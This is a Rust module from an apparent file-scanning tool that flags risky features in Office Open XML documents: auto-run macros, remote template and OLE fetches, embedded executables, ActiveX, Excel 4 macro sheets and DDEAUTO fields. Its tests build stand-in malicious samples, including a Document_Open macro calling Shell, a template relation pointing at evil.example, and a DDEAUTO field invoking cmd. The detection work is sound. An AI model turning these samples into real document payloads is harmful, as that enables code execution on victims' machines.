//! New Office documents: zip archives of XML files, with the macros in a compound file. Embedded files are only named here; the plugin `archive` extracts them.

use super::{limits, ole};
use crate::findings::Findings;
use serde_json::{Value, json};
use weir_scan::budget::{Budget, Exceeded};
use weir_scan::plain::shown;
use weir_scan::walk::kind::Kind;
use weir_scan::walk::{self, File, NestedPath, Oddity, Visit};

/// Links to elsewhere that a report names.
const LINKS_MAX: usize = 100;
/// Relations that fetch something as soon as the document is opened.
const FETCHING: &[&str] =
    &["attachedTemplate", "oleObject", "frame", "subDocument", "externalLinkPath", "hlinkMouseOver"];
/// What is read of one part.
const PART_MAX: usize = 16 << 20;
const ODD_MAX: usize = 20;

pub(super) fn look(data: &[u8], findings: &mut Findings<'_>) -> Value {
    let (mut budget, mut document) = (Budget::new(&limits()), Document::new(findings));
    let walked = walk::walk_file(&["document".to_owned()], data, &mut budget, &mut document);
    if !document.is_document {
        return json!({ "format": "zip", "document": false });
    }
    let Document { macros, links, embedded, controls, odd, .. } = document;
    for oddity in odd {
        match oddity {
            Oddity::Encrypted => findings.info("locked", "a part has a password"),
            Oddity::Inconsistent(why) => findings.suspicious("inconsistent", why),
            Oddity::Unreadable(why) => findings.info("odd", why),
            _ => {}
        }
    }
    if let Err(exceeded) = walked {
        findings.unknown("limit", exceeded.to_string());
    }
    if controls > 0 {
        findings.info("activex", controls.to_string());
    }
    json!({
        "format": "OOXML", "macros": macros, "links": links, "embedded": embedded, "activex": controls,
        "limit": walked.err().map(|exceeded| exceeded.to_string()),
    })
}

struct Document<'a, 'k> {
    findings: &'a mut Findings<'k>,
    is_document: bool,
    macros: Vec<Value>,
    links: Vec<Value>,
    embedded: Vec<String>,
    controls: u64,
    /// Told only if it is a document: of other archives `archive` tells.
    odd: Vec<Oddity>,
}

impl<'a, 'k> Document<'a, 'k> {
    fn new(findings: &'a mut Findings<'k>) -> Document<'a, 'k> {
        Document {
            findings,
            is_document: false,
            macros: Vec::new(),
            links: Vec::new(),
            embedded: Vec::new(),
            controls: 0,
            odd: Vec::new(),
        }
    }

    fn part(&mut self, name: &str, file: &File<'_>) {
        let lower = name.to_ascii_lowercase().replace('\\', "/");
        let data = &file.data[..file.data.len().min(PART_MAX)];
        if lower == "[content_types].xml" || lower == "mimetype" {
            self.is_document = true;
        }
        if file.kind == Kind::Ole
            && self.macros.len() < 8
            && let Some(project) = ole::macros(file.data)
        {
            let told = project.told(self.findings);
            self.macros.push(told);
        } else if lower.contains("/embeddings/") || (lower.contains("/media/") && file.kind.is_program()) {
            self.embed(name, file);
        }
        if lower.ends_with(".rels") {
            self.relations(&String::from_utf8_lossy(data));
        }
        if lower.contains("xl/macrosheets/") {
            self.findings.suspicious("excel4", format!("a sheet of Excel 4 macros: {name}"));
        }
        if lower.contains("/activex/") && lower.ends_with(".xml") {
            self.controls += 1;
        }
        if lower.ends_with("document.xml") && has_dde(data) {
            self.findings.suspicious("dde", "a field that starts a program (DDEAUTO)");
        }
    }

    fn embed(&mut self, name: &str, file: &File<'_>) {
        if self.embedded.len() < 100 {
            self.embedded.push(shown(name, 200));
        }
        let name = name.rsplit(['/', '\\']).next().unwrap_or(name);
        if file.kind.is_program() {
            self.findings.suspicious("embedded", format!("{}: {name}", file.kind.words()));
        } else {
            self.findings.info("embedded", name);
        }
    }

    /// Relations whose target is outside the document.
    fn relations(&mut self, text: &str) {
        for tag in text.split('<').filter(|tag| tag.starts_with("Relationship ")) {
            let tag = tag.split('>').next().unwrap_or("");
            let (kind, target) = (attribute(tag, "Type"), attribute(tag, "Target"));
            let external = attribute(tag, "TargetMode").eq_ignore_ascii_case("External");
            let far = target.contains("://") || target.starts_with("\\\\") || target.starts_with("mhtml:");
            if !external || !far || self.links.len() >= LINKS_MAX {
                continue;
            }
            let kind = kind.rsplit('/').next().unwrap_or("");
            let target = shown(&unescaped(target), 500);
            if FETCHING.iter().any(|known| known.eq_ignore_ascii_case(kind)) {
                self.findings.suspicious("fetches", format!("{kind} from {target}"));
            }
            self.findings.observable("url", &target);
            self.links.push(json!({ "kind": shown(kind, 60), "target": target }));
        }
    }
}

impl Visit for Document<'_, '_> {
    fn file(&mut self, _: &NestedPath, file: &File<'_>, _: &Budget) -> Result<(), Exceeded> {
        if file.in_archive {
            let name = file.names.first().cloned().unwrap_or_default();
            self.part(&name, file);
        }
        Ok(())
    }

    fn odd(&mut self, _: &NestedPath, oddity: Oddity) {
        if self.odd.len() < ODD_MAX {
            self.odd.push(oddity);
        }
    }

    fn enters(&mut self, _: &NestedPath, file: &File<'_>) -> bool {
        !file.in_archive
    }
}

/// The value of an attribute of a tag; empty if it has none.
fn attribute<'t>(tag: &'t str, name: &str) -> &'t str {
    let mut rest = tag;
    while let Some(at) = rest.find(name) {
        let begins = rest[..at].ends_with(|c: char| c.is_ascii_whitespace());
        rest = &rest[at + name.len()..];
        let value = rest.trim_start().strip_prefix('=').map(str::trim_start);
        let quote = value.and_then(|value| value.chars().next()).filter(|c| matches!(c, '"' | '\''));
        if let (true, Some(value), Some(quote)) = (begins, value, quote) {
            return value[1..].split(quote).next().unwrap_or("");
        }
    }
    ""
}

fn unescaped(text: &str) -> String {
    text.replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">").replace("&apos;", "'").replace("&amp;", "&")
}

fn has_dde(xml: &[u8]) -> bool {
    // The words of a field may be spread over several runs: only the letters count.
    memchr::memmem::find(xml, b"DDEAUTO").is_some() || memchr::memmem::find(xml, b"instrText>DDE ").is_some()
}

#[cfg(test)]
mod tests {
    use super::super::tests::{said, suspicions};
    use super::*;
    use crate::fixtures;

    #[test]
    fn macros_inside_the_zip_are_read() {
        let data = fixtures::macro_docm("Sub Document_Open()\r\n  Shell \"calc\"\r\nEnd Sub\r\n");
        assert_eq!(suspicions(&data), ["macro runs by itself (Document_Open) and uses Shell"]);
        assert_eq!(said(&data).2["macros"][0]["modules"][0]["name"], "ThisDocument");
    }

    fn with(parts: &[(&str, &[u8])]) -> Vec<u8> {
        fixtures::zip(&[&[("[Content_Types].xml", b"<Types/>".as_slice())][..], parts].concat())
    }

    #[test]
    fn a_template_from_elsewhere() {
        let rels = br#"<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm?x=1&amp;y" TargetMode="External"/>
            <Relationship Id="r2" Type="http://x/relationships/hyperlink" Target="https://fine.example/" TargetMode="External"/>
            <Relationship Id="r3" Type="http://x/relationships/styles" Target="styles.xml"/></Relationships>"#;
        let data = with(&[("word/_rels/settings.xml.rels", rels)]);
        assert_eq!(suspicions(&data), ["fetches attachedTemplate from http://evil.example/a.dotm?x=1&y"]);
        assert_eq!(said(&data).2["links"].as_array().map(Vec::len), Some(2));
    }

    #[test]
    fn files_inside_are_told() {
        let data = with(&[("word/embeddings/evil.exe", b"MZ\x90\0"), ("word/embeddings/table.xlsx", b"PK\x03\x04")]);
        assert_eq!(said(&data).2["embedded"], json!(["word/embeddings/evil.exe", "word/embeddings/table.xlsx"]));
        assert_eq!(suspicions(&data), ["embedded a Windows program: evil.exe"]);
    }

    #[test]
    fn fields_and_sheets_that_start_programs() {
        let data = with(&[("word/document.xml", b"<w:instrText>DDEAUTO c:\\\\windows cmd</w:instrText>")]);
        assert_eq!(suspicions(&data).len(), 1);
        let data = with(&[("xl/macrosheets/sheet1.xml", b"<x/>")]);
        assert!(suspicions(&data)[0].starts_with("excel4"));
        assert_eq!(said(&fixtures::zip(&[("a", b"b")])).2["document"], false);
    }

    #[test]
    fn attributes() {
        let tag = r#"Relationship TargetMode = 'External' Target="a=b" Type="c""#;
        assert_eq!(
            ["Target", "TargetMode", "Type", "Id"].map(|name| attribute(tag, name)),
            ["a=b", "External", "c", ""]
        );
        assert_eq!(attribute("Relationship Target=", "Target"), "");
    }
}
